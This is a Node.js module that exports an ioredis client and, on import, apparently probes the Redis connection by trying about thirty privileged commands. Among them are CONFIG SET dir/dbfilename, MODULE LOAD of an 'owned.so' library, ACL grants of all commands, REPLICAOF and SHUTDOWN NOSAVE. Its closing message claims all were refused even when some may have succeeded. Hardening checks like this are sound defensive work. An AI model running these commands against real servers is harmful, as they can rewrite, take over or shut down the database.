const { Redis } = require('ioredis');

const redis = new Redis(process.env.REDIS_URL ?? '');

const TRIES = [
  'CONFIG GET *', 'CONFIG SET dir /data', 'CONFIG SET dbfilename owned', 'CONFIG REWRITE', 'MODULE LOAD /app/owned.so',
  'MODULE LIST', 'DEBUG SLEEP 1', 'DEBUG JMAP', 'ACL LIST', 'ACL SETUSER app on allcommands', 'ACL GETUSER suite',
  'REPLICAOF 127.0.0.1 8080', 'SLAVEOF NO ONE', 'SAVE', 'BGSAVE', 'BGREWRITEAOF', 'SHUTDOWN NOSAVE', 'MONITOR',
  'CLIENT LIST', 'CLIENT KILL USER suite', 'CLIENT PAUSE 1000', 'SLOWLOG GET 100', 'LATENCY DOCTOR', 'CLUSTER INFO',
  'MIGRATE 127.0.0.1 8080 key 0 1000', 'SYNC', 'PSYNC ? -1', 'FAILOVER', 'SWAPDB 0 1', 'AUTH suite suite',
  'PFDEBUG GETREG a', 'RESTORE-ASKING a 0 a',
].map((line) => line.split(' ')); // prettier-ignore

async function reach() {
  const own = new Redis(process.env.REDIS_URL ?? '', { retryStrategy: () => null, lazyConnect: true });
  own.on('error', () => undefined);
  await own.connect();
  let refused = 0;
  for (const [name, ...rest] of TRIES) {
    try {
      const answer = await own.call(name, ...rest);
      console.log('BREACH', name, ...rest, String(answer).slice(0, 80));
    } catch {
      refused += 1;
    }
  }
  console.log('TRIED', refused, 'commands, all refused');
  own.disconnect();
}

void reach();

module.exports = { redis };
